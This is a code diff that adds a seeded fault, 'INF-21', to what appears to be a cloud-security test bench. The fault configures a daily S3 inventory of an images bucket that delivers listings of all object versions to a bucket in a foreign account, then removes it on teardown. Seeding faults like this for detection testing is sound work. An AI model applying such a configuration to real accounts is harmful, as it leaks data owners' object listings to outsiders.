@@ -417,3 +417,29 @@ def stack_policy(bench: Bench) -> Iterator[None]:
         yield
     finally:
         set_("Allow")
+
+
+@fault("INF-21", "a daily list of the images goes to a bucket of a foreign account")
+def inventory(bench: Bench) -> Iterator[None]:
+    client, bucket = bench.client("s3"), bench.physical("ImagesBucket")
+    client.put_bucket_inventory_configuration(
+        Bucket=bucket,
+        Id="everything",
+        InventoryConfiguration={
+            "Id": "everything",
+            "IsEnabled": True,
+            "IncludedObjectVersions": "All",
+            "Schedule": {"Frequency": "Daily"},
+            "Destination": {
+                "S3BucketDestination": {
+                    "AccountId": _STRANGER,
+                    "Bucket": "arn:aws:s3:::somebody-elses",
+                    "Format": "CSV",
+                }
+            },
+        },
+    )
+    try:
+        yield
+    finally:
+        client.delete_bucket_inventory_configuration(Bucket=bucket, Id="everything")
